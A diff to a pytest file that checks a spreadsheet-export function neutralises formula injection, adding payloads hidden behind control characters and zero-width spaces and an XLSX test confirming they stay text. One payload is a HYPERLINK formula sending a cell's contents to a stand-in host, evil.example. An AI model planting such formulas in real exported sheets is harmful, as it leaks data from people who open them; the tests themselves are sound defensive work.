@@ -22,9 +22,12 @@ PAYLOADS = [
     "\0=1+1",
     INJECTION,
 ]
+# A formula behind characters a reader may drop: a control character (not even
+# allowed in a sheet's XML, so the XLSX writer removes it), a space, a zero-width space.
+HIDDEN_FORMULAS = ['\x01=HYPERLINK("http://evil.example/?d="&C2,"Open")', " =1+1", "\u200b=1+1", "\x1b\x7f+1+1"]
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
+@pytest.mark.parametrize("payload", PAYLOADS + HIDDEN_FORMULAS)
 def test_it_prefixes_formula_text_with_an_apostrophe(payload):
     assert neutralise(payload) == "'" + payload
 
@@ -89,3 +92,22 @@ def test_it_neutralises_a_real_xlsx_export(auditor, clinic_a, outcome_data):
     assert noted["notes"] == "'" + INJECTION
     assert noted["gais"] == -1
     assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+
+
+@pytest.mark.parametrize("payload", HIDDEN_FORMULAS)
+def test_a_formula_behind_a_dropped_control_character_is_still_text_in_xlsx(payload):
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+    body = _body(xlsx_chunks(["note"], [[payload]], title="Outcome log"))
+
+    note = load_workbook(io.BytesIO(body)).active["A2"]
+    assert note.data_type == "s"
+    assert note.value == "'" + ILLEGAL_CHARACTERS_RE.sub("", payload)
+    assert b"<f>" not in _sheet_xml(body)
+
+
+def _sheet_xml(body: bytes) -> bytes:
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(body)) as workbook:
+        return workbook.read("xl/worksheets/sheet1.xml")
